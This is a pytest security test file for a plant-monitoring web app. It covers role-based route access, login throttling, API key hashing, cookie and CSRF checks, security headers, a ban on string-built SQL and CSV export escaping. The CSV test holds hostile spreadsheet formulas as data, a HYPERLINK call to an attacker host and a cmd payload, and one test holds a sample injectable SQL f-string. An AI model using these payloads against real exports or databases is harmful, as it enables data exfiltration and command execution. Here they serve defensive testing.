"""Access and hardening: a role table generated from the app's routes, login throttling, API keys,
cookies, CSRF, security headers, no SQL built from strings, CSV formula injection, the audit trail.

The role table is the policy: every route of the running app must be in it, so a new route without a
rule fails ``test_every_route_has_an_access_rule``. Checks are behavioural, through real requests.
Header names and values follow the OWASP Secure Headers Project and the OWASP Cheat Sheets on CSRF,
session management and CSV injection (from memory); their presence is checked, not any vendor's output.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from support.fixtures import PASSWORD
from support.routes import app_routes

ROOT = Path(__file__).resolve().parents[2]
RANKS = ("public", "viewer", "technician", "engineer", "admin")

# The access policy: the least role that may call each route. "public" needs no login.
POLICY = {
    ("GET", "/healthz"): "public",
    ("GET", "/readyz"): "public",
    ("GET", "/metrics"): "public",  # scraped by the plant's monitoring; carries no plant data (see README)
    ("GET", "/openapi.json"): "public",
    ("GET", "/docs"): "public",
    ("GET", "/docs/assets/{name}"): "public",  # Swagger UI served from the installed package
    ("GET", "/login"): "public",
    ("GET", "/static/plotly.min.js"): "public",
    ("GET", "/static/{name:path}"): "public",
    ("POST", "/api/v1/session"): "public",
    ("DELETE", "/api/v1/session"): "public",
    # dashboard pages: anonymous visitors are sent to /login
    ("GET", "/"): "viewer",
    ("GET", "/alarms"): "viewer",
    ("GET", "/assets/{asset_id}"): "viewer",
    ("GET", "/records/{record_id}"): "viewer",
    ("GET", "/points/{point_id}/window"): "viewer",
    ("GET", "/routes"): "viewer",
    ("GET", "/settings"): "viewer",  # configuration for engineers; a viewer's own email alerts
    # reading
    ("GET", "/api/v1/me"): "viewer",
    ("GET", "/api/v1/tree"): "viewer",
    ("GET", "/api/v1/routes"): "viewer",
    ("GET", "/api/v1/jobs"): "viewer",
    ("GET", "/api/v1/jobs/{job_id}"): "viewer",
    ("GET", "/api/v1/records/{record_id}"): "viewer",
    ("GET", "/api/v1/records/{record_id}/spectrum"): "viewer",
    ("GET", "/api/v1/records/{record_id}/waveform"): "viewer",
    ("GET", "/api/v1/records/{record_id}/retention"): "viewer",
    ("GET", "/api/v1/points/{point_id}/records"): "viewer",
    ("GET", "/api/v1/points/{point_id}/trend"): "viewer",
    ("GET", "/api/v1/points/{point_id}/waterfall"): "viewer",
    ("GET", "/api/v1/dashboard/overview"): "viewer",
    ("GET", "/api/v1/dashboard/sites"): "viewer",
    ("GET", "/api/v1/dashboard/assets/{asset_id}"): "viewer",
    ("GET", "/api/v1/dashboard/points/{point_id}/series"): "viewer",
    ("GET", "/api/v1/dashboard/points/{point_id}/readings"): "viewer",
    ("GET", "/api/v1/dashboard/points/{point_id}/window"): "viewer",
    ("GET", "/api/v1/dashboard/records/{record_id}"): "viewer",
    ("GET", "/api/v1/dashboard/records/{record_id}/waterfall"): "viewer",
    ("GET", "/api/v1/alarms"): "viewer",
    ("GET", "/api/v1/alarms/history"): "viewer",
    ("GET", "/api/v1/alarms/incidents"): "viewer",
    ("GET", "/api/v1/alarms/rules"): "viewer",
    ("GET", "/api/v1/alarms/history.csv"): "viewer",
    # measuring
    ("POST", "/api/v1/points/{point_id}/records"): "technician",
    ("POST", "/api/v1/points/{point_id}/records/file"): "technician",
    ("POST", "/api/v1/routes/{route_id}/uploads"): "technician",
    # engineering: configuration and alarm handling
    ("GET", "/api/v1/alarms/data-quality"): "engineer",
    ("GET", "/api/v1/alarms/outbox"): "admin",  # recipients' addresses and delivery errors
    # anyone logged in manages their own alert emails; only engineers may subscribe other addresses
    ("GET", "/api/v1/alarms/subscriptions"): "viewer",
    ("POST", "/api/v1/alarms/subscriptions"): "viewer",
    ("DELETE", "/api/v1/alarms/subscriptions/{sub_id}"): "viewer",
    ("POST", "/api/v1/alarms/{alarm_id}/acknowledge"): "engineer",
    ("POST", "/api/v1/alarms/{alarm_id}/shelve"): "engineer",
    ("POST", "/api/v1/alarms/{alarm_id}/unshelve"): "engineer",
    ("POST", "/api/v1/alarms/incidents/{asset_id}/acknowledge"): "engineer",
    ("POST", "/api/v1/alarms/incidents/{asset_id}/shelve"): "engineer",
    ("POST", "/api/v1/alarms/incidents/{asset_id}/unshelve"): "engineer",
    ("PUT", "/api/v1/alarms/rules"): "engineer",
    ("POST", "/api/v1/sites"): "engineer",
    ("POST", "/api/v1/areas"): "engineer",
    ("POST", "/api/v1/assets"): "engineer",
    ("PUT", "/api/v1/assets/{asset_id}"): "engineer",
    ("POST", "/api/v1/points"): "engineer",
    ("PUT", "/api/v1/points/{point_id}"): "engineer",
    ("POST", "/api/v1/routes"): "engineer",
    ("PUT", "/api/v1/routes/{route_id}"): "engineer",
    ("PUT", "/api/v1/records/{record_id}/pin"): "engineer",  # keeps evidence past retention; audited
    ("DELETE", "/api/v1/records/{record_id}/pin"): "engineer",
    ("GET", "/api/v1/audit"): "engineer",
    ("GET", "/api/v1/audit.csv"): "engineer",
    # administration
    ("GET", "/api/v1/users"): "admin",
    ("POST", "/api/v1/users"): "admin",
    ("PATCH", "/api/v1/users/{user_id}"): "admin",
    ("GET", "/api/v1/apikeys"): "admin",
    ("POST", "/api/v1/apikeys"): "admin",
    ("DELETE", "/api/v1/apikeys/{key_id}"): "admin",
}


def test_every_route_has_an_access_rule(app):
    routes = app_routes(app)
    missing = sorted(routes - POLICY.keys())
    assert not missing, f"routes without an access rule in POLICY (add one): {missing}"
    assert not sorted(POLICY.keys() - routes), "POLICY lists routes the app no longer has"


def _url(path: str) -> str:
    # an id that does not exist: allowed callers get 404/422, nothing changes
    return re.sub(r"\{[^}]+\}", "999999", path).replace("999999:path", "x")


def _denied(r) -> bool:
    """Refused for the caller's role (not for an ownership or scope rule on one object)."""
    if r.status_code == 401:
        return True
    if r.status_code == 403:
        if not r.headers.get("content-type", "").startswith("application/json"):
            return True  # a dashboard page
        return r.json()["error"]["message"].startswith("this needs the ")
    return r.status_code in (302, 303, 307) and "/login" in r.headers.get("location", "")


def test_role_table_matches_the_behaviour(app, users):
    from fastapi.testclient import TestClient

    clients = {"public": TestClient(app, follow_redirects=False)}
    for role in RANKS[1:]:
        c = users.login(role)
        c.follow_redirects = False
        clients[role] = c
    wrong = []
    for (method, path), need in sorted(POLICY.items(), key=lambda kv: kv[0] == ("DELETE", "/api/v1/session")):
        if (method, path) == ("DELETE", "/api/v1/session"):
            continue  # logging out is always allowed; it would end the test's sessions
        for role in RANKS:
            kwargs = {"json": {}} if method in ("POST", "PUT", "PATCH") else {}
            r = clients[role].request(method, _url(path), **kwargs)
            assert r.status_code < 500 or r.status_code == 503, (method, path, role, r.text[:300])
            allowed = RANKS.index(role) >= RANKS.index(need)
            if allowed == _denied(r):
                wrong.append((method, path, role, r.status_code))
    clients["public"].close()
    assert not wrong, f"(method, path, role, status) that break the policy: {wrong}"


def test_login_is_throttled_per_user_and_address(app, users):
    from fastapi.testclient import TestClient

    clock = [1000.0]
    app.state.login_throttle.clock = lambda: clock[0]
    with TestClient(app) as c:
        for _ in range(app.state.settings.login_max_failures):
            r = c.post("/api/v1/session", json={"username": "viewer1", "password": "wrong password"})
            assert r.status_code == 401
        r = c.post("/api/v1/session", json={"username": "viewer1", "password": PASSWORD})
        assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0, r.text
        assert r.json()["error"]["field"] == "username"
        clock[0] += app.state.settings.login_window_s + 1  # the window slides past the failures
        r = c.post("/api/v1/session", json={"username": "viewer1", "password": PASSWORD})
        assert r.status_code == 200, r.text


def test_api_keys_are_stored_as_hashes_and_compared_in_constant_time(app, plant):
    import hashlib

    from sqlalchemy import select

    from server.services.users import create_api_key
    from server.storage.tables import ApiKey

    key, info = create_api_key(app.state.db, name="gw", role="technician")
    with app.state.db.read() as s:
        row = s.scalar(select(ApiKey).where(ApiKey.id == info["id"]))
        stored = [str(getattr(row, c.key)) for c in ApiKey.__table__.columns]
    assert not any(key in v for v in stored)  # the secret itself is nowhere in the row
    assert row.key_hash == hashlib.sha256(key.encode()).hexdigest()  # hashlib as the reference
    source = (ROOT / "server" / "security.py").read_text()
    body = ast.get_source_segment(source, next(n for n in ast.walk(ast.parse(source))
                                               if isinstance(n, ast.FunctionDef)
                                               and n.name == "_principal_from_key"))
    assert "hmac.compare_digest(" in body and "==" not in body.split("compare_digest", 1)[1].split("\n")[0]


@pytest.mark.parametrize("secure", [False, True])
def test_session_cookie_flags(tmp_path, users, app, secure):
    from fastapi.testclient import TestClient

    from server.app import create_app

    target = create_app(app.state.settings.model_copy(update={"session_cookie_secure": secure}))
    with TestClient(target) as c:
        r = c.post("/api/v1/session", json={"username": "viewer1", "password": PASSWORD})
    assert r.status_code == 200
    cookies = {h.split("=", 1)[0]: h.lower() for h in r.headers.get_list("set-cookie")}
    session = cookies["halfwatch_session"]
    assert "httponly" in session and "samesite=lax" in session and "path=/" in session
    assert ("secure" in session.split(";")[-1] or "; secure" in session) is secure
    assert "httponly" not in cookies["halfwatch_csrf"]  # the page script copies it into the header


def test_cookie_writes_need_the_csrf_token_and_api_keys_do_not(app, users, plant_key_headers, plant):
    c = users.login("engineer")
    token = c.headers.pop("X-CSRF-Token")
    r = c.post("/api/v1/sites", json={"name": "Quarry pumps"})
    assert r.status_code == 403 and r.json()["error"]["field"] == "X-CSRF-Token"
    r = c.post("/api/v1/sites", json={"name": "Quarry pumps"}, headers={"X-CSRF-Token": "forged"})
    assert r.status_code == 403
    r = c.post("/api/v1/sites", json={"name": "Quarry pumps"}, headers={"X-CSRF-Token": token})
    assert r.status_code == 201, r.text
    # an API key is never sent by a browser on its own, so it needs no token
    from fastapi.testclient import TestClient

    with TestClient(app) as k:
        r = k.get("/api/v1/me", headers=plant_key_headers)
        assert r.status_code == 200 and r.json()["kind"] == "apikey"


@pytest.mark.parametrize("path", ["/healthz", "/login", "/api/v1/me", "/no/such/page"])
def test_security_headers_on_every_kind_of_response(client, path):
    r = client.get(path, follow_redirects=False)
    h = r.headers
    csp = h["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp and "object-src 'none'" in csp
    assert not re.search(r"https?://|\*", csp), "no remote origins or wildcards in the CSP"
    assert h["x-content-type-options"] == "nosniff"
    assert h["x-frame-options"] == "DENY"
    assert h["referrer-policy"] in ("no-referrer", "strict-origin-when-cross-origin", "same-origin")
    assert "strict-transport-security" not in h  # plain HTTP here; HSTS only behind TLS


SQL_CALLS = {"text", "execute", "exec_driver_sql", "executescript", "literal_column"}


def _safe_value(node) -> bool:
    """A module constant (UPPER_CASE) or a value forced to a number by int()/float()."""
    if isinstance(node, ast.Name):
        return node.id.isupper()
    return isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("int", "float")


def _built_string(node) -> bool:
    """An f-string with a non-constant part, a % or + with a string, or a .format() call."""
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(v, ast.FormattedValue) and not _safe_value(v.value) for v in node.values)
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Mod, ast.Add)):
        return any(isinstance(s, ast.JoinedStr) or (isinstance(s, ast.Constant) and isinstance(s.value, str))
                   for s in (node.left, node.right))
    return (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
            and node.func.attr == "format")


def test_no_sql_is_built_from_strings():
    """Every SQL text in server/ is a constant; values go in as bound parameters (common practice)."""
    found = []
    for path in sorted((ROOT / "server").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name in SQL_CALLS and _built_string(node.args[0]):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not found, f"SQL built from strings (use bound parameters): {found}"


def test_the_sql_check_can_fail():
    bad = ast.parse('conn.execute(text(f"SELECT * FROM t WHERE name = \'{name}\'"))')
    call = next(n for n in ast.walk(bad) if isinstance(n, ast.Call) and getattr(n.func, "id", "") == "text")
    assert _built_string(call.args[0])
    assert not _built_string(ast.parse('f"PRAGMA busy_timeout={int(ms)}"').body[0].value)
    assert _built_string(ast.parse('"{" + ",".join(path) + "}"').body[0].value)


def test_csv_exports_cannot_inject_formulas(app, users, plant, hw_settings, migrated_db):
    import csv
    import io

    from alarms.helpers import Feeder, make_result

    from server.alarms import service
    from server.audit import csv_cell

    feeder = Feeder(migrated_db, hw_settings)
    for v in (0.2, 0.3, 1.5, 1.6, 3.0, 3.1):  # the pump's point goes into alarm
        feeder.feed(plant.point_id, make_result(half_v=v))
    state = service.list_alarms(migrated_db)[0]
    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    eng = users.login("engineer")
    r = eng.post(f"/api/v1/alarms/{state['id']}/acknowledge", json={"comment": hostile})
    assert r.status_code == 200, r.text
    r = eng.get("/api/v1/alarms/history.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    comments = [row["comment"] for row in rows if row["kind"] == "acknowledged"]
    assert comments == ["'" + hostile]  # shown as text by a spreadsheet, never run
    for cell in [row[k] for row in rows for k in row]:
        assert not cell.startswith(("=", "+", "@")), cell
    # the escaping itself (OWASP CSV injection guidance, from memory): numbers stay numbers
    assert [csv_cell(v) for v in ("-1.5", "+cmd|' /C calc'!A0", "@SUM(1)", "\tx", -2.0, "plain")] == \
        ["-1.5", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'\tx", "-2.0", "plain"]


def test_configuration_changes_and_acknowledgements_are_audited(app, users, plant, migrated_db):
    from sqlalchemy import text
    from sqlalchemy.exc import DatabaseError

    admin = users.login("admin")
    eng = users.login("engineer")
    r = eng.put("/api/v1/alarms/rules", json={"point_id": plant.point_id, "metric": "half_order_velocity",
                                              "alert": 1.2, "danger": 2.5})
    assert r.status_code == 200, r.text
    r = eng.post("/api/v1/sites", json={"name": "Quarry pumps"})
    assert r.status_code == 201, r.text
    r = admin.post("/api/v1/apikeys", json={"name": "gateway B", "role": "technician"})
    assert r.status_code == 201
    key, key_id = r.json()["key"], r.json()["api_key"]["id"]
    assert admin.delete(f"/api/v1/apikeys/{key_id}").status_code == 200
    r = admin.patch(f"/api/v1/users/{users.ids['viewer']}", json={"role": "technician"})
    assert r.status_code == 200
    r = eng.get("/api/v1/audit")
    assert r.status_code == 200
    changes = r.json()["changes"]
    seen = {(c["action"], c["target"]) for c in changes}
    assert {("set", "alarm_rule"), ("create", "site"), ("create", "api_key"), ("revoke", "api_key"),
            ("update", "user")} <= seen
    by = {(c["action"], c["target"]): c for c in changes}
    assert by[("set", "alarm_rule")]["actor"] == "engineer1"
    assert by[("create", "site")]["details"]["values"]["name"] == "Quarry pumps"
    assert by[("revoke", "api_key")]["actor"] == "user:admin1"
    assert key not in r.text  # the secret is never written to the trail
    # the trail is append-only in the database itself (triggers from migration 0004)
    with pytest.raises(DatabaseError):
        with migrated_db.unit_of_work() as s:
            s.execute(text("UPDATE config_changes SET actor = 'someone else'"))
    with pytest.raises(DatabaseError):
        with migrated_db.unit_of_work() as s:
            s.execute(text("DELETE FROM config_changes"))
